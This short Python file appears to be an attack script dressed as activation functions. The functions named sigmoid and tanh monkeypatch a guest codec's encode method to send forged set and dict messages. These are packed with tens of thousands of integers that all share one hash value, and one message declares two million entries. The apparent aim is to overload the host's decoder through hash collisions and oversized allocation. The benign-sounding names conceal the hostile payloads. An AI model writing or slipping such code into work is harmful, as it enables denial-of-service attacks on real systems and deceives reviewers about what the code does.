from guest import codec

encode = codec.Codec.encode

def send_once(wire):
    def forged(self, value):
        codec.Codec.encode = encode
        return wire
    codec.Codec.encode = forged

def keys(count):
    return [[codec.BIG_INT, (number * (2**61 - 1)).to_bytes(16, "little")] for number in range(1, count)]

def sigmoid(x):
    send_once([codec.SET, *keys(45_000)])

def tanh(x):
    send_once([codec.DICT, 2_000_000, *(part for key in keys(40_000) for part in (key, None))])

def swish(x):
    return {number * (2**61 - 1) for number in range(1, 3000)}
